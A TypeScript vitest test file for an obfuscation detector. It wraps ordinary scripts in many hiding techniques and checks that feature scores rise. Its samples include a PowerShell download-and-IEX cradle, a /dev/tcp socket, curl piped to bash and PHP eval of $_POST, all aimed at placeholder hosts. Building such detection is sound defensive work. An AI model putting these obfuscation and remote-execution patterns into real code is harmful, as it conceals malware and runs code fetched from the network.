import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  namedScriptFeatures,
  scriptFeatures,
  type ScriptDialect,
  type ScriptFeatureName,
} from '@guardimesh/obfuscation';
import { ORDINARY } from './script-samples.js';

type Named = Readonly<Record<ScriptFeatureName, number>>;
const of = (text: string | Uint8Array, dialect: ScriptDialect): Named =>
  namedScriptFeatures(scriptFeatures(typeof text === 'string' ? new TextEncoder().encode(text) : text, dialect));

const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');
const codes = (text: string): string => [...Buffer.from(text)].join(',');
const hexEscapes = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('');
const split = (text: string, length: number): string[] => text.match(new RegExp(`[^]{1,${length}}`, 'g')) ?? [];

/** Every function of a script by a name like those of a well-known obfuscator. */
function renamed(text: string): string {
  const names = new Map<string, string>();
  return text.replaceAll(/\b(?:longest|found|line|path|readFileSync)\b/g, (name) => {
    const known = names.get(name) ?? `_0x${(0x1a2b + names.size * 977).toString(16)}`;
    names.set(name, known);
    return known;
  });
}

const { javascript, python, php, perl, powershell, shell, ruby, lua } = ORDINARY;

/** A way to hide an ordinary script of the same language, and the numbers that must be greater for it than for the script itself. */
const HIDDEN: readonly [string, ScriptDialect, string, string, ScriptFeatureName[]][] = [
  [
    'base64 and eval',
    'javascript',
    javascript,
    `eval(atob("${base64(javascript)}"));`,
    [
      'eval-count',
      'decode-count',
      'eval-near-decode-count',
      'literal-share',
      'literal-base64-share',
      'base64-run-share',
      'line-mean',
    ],
  ],
  [
    'hexadecimal escapes',
    'javascript',
    javascript,
    `Function("${hexEscapes(javascript)}")();`,
    ['eval-count', 'literal-escape-share', 'literal-share', 'literal-longest', 'literal-digit-share'],
  ],
  [
    'character codes',
    'javascript',
    javascript,
    `eval(String.fromCharCode(${codes(javascript)}))`,
    ['eval-near-decode-count', 'number-list-share', 'number-list-longest', 'number-share', 'digit-share'],
  ],
  ['names of no meaning', 'javascript', javascript, renamed(javascript), ['name-hex-share', 'name-digit-share']],
  [
    'names that look alike',
    'javascript',
    javascript,
    javascript.replaceAll('longest', 'Il1lI1').replaceAll('path', 'O0OO0'),
    ['name-confusable-share'],
  ],
  [
    'an array of encoded texts',
    'javascript',
    javascript,
    `var _0x1f=[${split(base64(javascript), 12)
      .map((each) => `'${each}'`)
      .join(',')}];(function(_0x2a,_0x3b){_0x2a['push'](_0x2a['shift']());}(_0x1f,0x1b3));`,
    ['literal-list-longest', 'literal-list-share', 'literal-opaque-share', 'name-hex-share', 'literal-share'],
  ],
  [
    'a packer',
    'javascript',
    javascript,
    `eval(function(p,a,c,k,e,d){return p}('0 1 2',3,3,'${javascript.replaceAll(/\W+/g, '|')}'.split('|'),0,{}))`,
    ['eval-near-decode-count', 'name-one-letter-share', 'literal-longest'],
  ],
  [
    'texts that are put together',
    'javascript',
    javascript,
    `window[${['e', 'v', 'a', 'l'].map((each) => `'${each}'`).join('+')}](${split(base64(javascript), 3)
      .map((each) => `'${each}'`)
      .join('+')})`,
    ['concatenation-per-kb', 'indirect-call-per-kb', 'literal-list-longest'],
  ],
  [
    'exclusive or',
    'javascript',
    javascript,
    `var a="${base64(javascript)}",b="";for(var c=0;c<a.length;c++)b+=String.fromCharCode(a.charCodeAt(c)^7);eval(b)`,
    ['xor-per-kb', 'character-call-per-kb', 'eval-near-decode-count', 'decode-count'],
  ],
  [
    'zlib and base64',
    'python',
    python,
    `exec(__import__('zlib').decompress(__import__('base64').b64decode('${base64(deflateSync(python))}')))`,
    ['eval-near-decode-count', 'decode-per-kb', 'literal-base64-share', 'base64-run-longest', 'literal-entropy'],
  ],
  [
    'reversed',
    'python',
    python,
    `exec("${base64(python)}"[::-1].join(reversed("x")))`,
    ['eval-near-decode-count', 'literal-base64-share'],
  ],
  [
    'marshal',
    'python',
    python,
    `import marshal\nexec(marshal.loads(b'${hexEscapes(python)}'))\n`,
    ['eval-near-decode-count', 'literal-escape-share', 'literal-longest'],
  ],
  [
    'characters that are joined',
    'python',
    python,
    `exec(''.join(chr(x) for x in [${codes(python)}]))`,
    ['eval-count', 'character-call-per-kb', 'join-per-kb', 'number-list-longest'],
  ],
  [
    'PyArmor',
    'python',
    python,
    `from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'${hexEscapes(python)}')\n`,
    ['protector-count', 'literal-escape-share'],
  ],
  [
    'eval of packed bytes',
    'php',
    php,
    `<?php eval(gzinflate(base64_decode('${base64(deflateRawSync(php))}')));`,
    ['eval-near-decode-count', 'decode-count', 'literal-base64-share', 'base64-run-share'],
  ],
  [
    'functions in variables',
    'php',
    php,
    '<?php $a = "str" . "rev"; $b = $a("lave_ton"); ${"c"}("x"); $b($_POST["\\x47\\x4c\\x4f\\x42"]);',
    ['indirect-call-per-kb', 'literal-escape-share'],
  ],
  [
    'preg_replace with e',
    'php',
    php,
    '<?php preg_replace("/.*/e", base64_decode("eA=="), "");',
    ['eval-count', 'eval-near-decode-count'],
  ],
  ['assert', 'php', php, '<?php @assert($_POST["x"]); assert(strrev("x"));', ['eval-count', 'decode-count']],
  [
    'a pipe into a shell',
    'shell',
    shell,
    `eval "$(printf '${hexEscapes(base64(gzipSync(shell)))}' | base64 -d | gunzip)"`,
    ['eval-near-decode-count', 'literal-escape-share', 'eval-count', 'decode-per-kb'],
  ],
  [
    'a shell behind a pipe',
    'shell',
    shell,
    `echo ${base64(shell)} | base64 -d | /bin/bash`,
    ['eval-near-decode-count', 'base64-run-longest'],
  ],
  [
    'parts of variables',
    'shell',
    shell,
    `x='${shell.replaceAll("'", '')}'; \${x:3:1}\${x:7:1}\${x:1:1} \${@:2:1}; $y $z`,
    ['subscript-per-kb', 'indirect-call-per-kb'],
  ],
  [
    'words taken apart',
    'shell',
    shell,
    'c\\u\\r\\l "ht"tp://x | b""a\'\'s"h"; w""g\'e\'t x',
    ['concatenation-per-kb', 'escaped-letter-per-kb'],
  ],
  ['a socket of the shell', 'shell', shell, 'sh -c "cat < /dev/tcp/192.0.2.1/80"', ['network-count', 'eval-count']],
  [
    'an encoded command',
    'powershell',
    powershell,
    `powershell.exe -NoP -EncodedCommand ${base64(Buffer.from(powershell, 'utf16le'))}`,
    ['eval-near-decode-count', 'base64-run-share', 'network-count'],
  ],
  [
    'Invoke-Expression of what is downloaded and decoded',
    'powershell',
    powershell,
    `i\`e\`x 1; IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((New-Object Net.WebClient).DownloadString('http://192.0.2.1')))); & ("i"+"ex") (-join ([char[]](${codes('Write-Host')})))`,
    [
      'eval-near-decode-count',
      'network-count',
      'escaped-letter-per-kb',
      'indirect-call-per-kb',
      'concatenation-per-kb',
    ],
  ],
  [
    'pack',
    'perl',
    perl,
    `eval unpack u=>q{${base64(perl)}}; eval(pack("H*","${Buffer.from(perl).toString('hex')}"));`,
    ['eval-near-decode-count', 'literal-hex-share'],
  ],
  [
    'decoded and evaluated',
    'ruby',
    ruby,
    `eval(Base64.decode64("${base64(ruby)}"))`,
    ['eval-near-decode-count', 'literal-base64-share'],
  ],
  [
    'numbered bytes',
    'lua',
    lua,
    `loadstring("${[...Buffer.from(lua)].map((byte) => `\\${byte}`).join('')}")(); load(string.char(${codes(lua)}))()`,
    ['eval-near-decode-count', 'literal-escape-share', 'number-list-share', 'eval-count'],
  ],
];

describe('hidden code', () => {
  it.each(HIDDEN)('%s, in %s', (_, dialect, plain, hidden, greater) => {
    const before = of(plain, dialect);
    const after = of(hidden, dialect);
    for (const name of greater) expect(after[name], name).toBeGreaterThan(before[name]);
  });
});

describe('what is no hiding does not look like it', () => {
  it.each(Object.entries(ORDINARY) as [ScriptDialect, string][])('an ordinary %s script', (dialect, text) => {
    const features = of(text, dialect);
    const telling: ScriptFeatureName[] = [
      ...([
        'eval-near-decode-count',
        'eval-count',
        'name-hex-share',
        'name-confusable-share',
        'literal-base64-share',
      ] as const),
      ...([
        'literal-hex-share',
        'number-list-share',
        'protector-count',
        'xor-per-kb',
        'escaped-letter-per-kb',
      ] as const),
      ...(['base64-run-share', 'long-lines-share', 'control-share', 'data-uri-count', 'literal-list-share'] as const),
    ];
    for (const name of telling) expect(features[name], name).toBe(0);
    expect(features['blank-share']).toBeGreaterThan(0.1);
    expect(features['name-vowel-share']).toBeGreaterThan(0.25);
  });

  it('minified code: long lines and short names, but nothing encoded', () => {
    const line = 'function a(b,c){var d=b.length,e=c||{};for(var f=0;f<d;f++)e[b[f]]=f;return e}';
    const features = of(`/*! a licence */${line.repeat(60)}`, 'javascript');
    expect(features['long-lines-share']).toBe(1);
    expect(features['name-one-letter-share']).toBeGreaterThan(0.4);
    expect(features['literal-share']).toBe(0);
    expect(features['eval-count'] + features['decode-count'] + features['literal-escape-share']).toBe(0);
  });

  it('a picture in a style: base64, but said to be data and run by nothing', () => {
    const features = of(
      `const css = \`.a { background: url(data:image/png;base64,${base64(javascript)}) }\`;`,
      'javascript',
    );
    expect(features['literal-base64-share']).toBeGreaterThan(0.8);
    expect(features['data-uri-count']).toBe(1);
    expect(features['eval-near-decode-count']).toBe(0);
  });

  it('methods and blocks that share a name with what runs text', () => {
    expect(of('frame.eval("a"); re.compile("x"); model.eval()', 'python')['eval-count']).toBe(0);
    expect(of('eval { die }; eval {\n 1 };', 'perl')['eval-count']).toBe(0);
    expect(of('<?php $db->eval("x"); Redis::eval($y);', 'php')['eval-count']).toBe(0);
    expect(of('setTimeout(function () {}, 1); setTimeout(next, 1)', 'javascript')['eval-count']).toBe(0);
    expect(of('x.instance_eval do\nend; y.class_eval { }; z.instance_eval(&block)', 'ruby')['eval-count']).toBe(0);
    expect(of('<?php preg_replace("/(e)/i", "x", $y);', 'php')['eval-count']).toBe(0);
  });
});
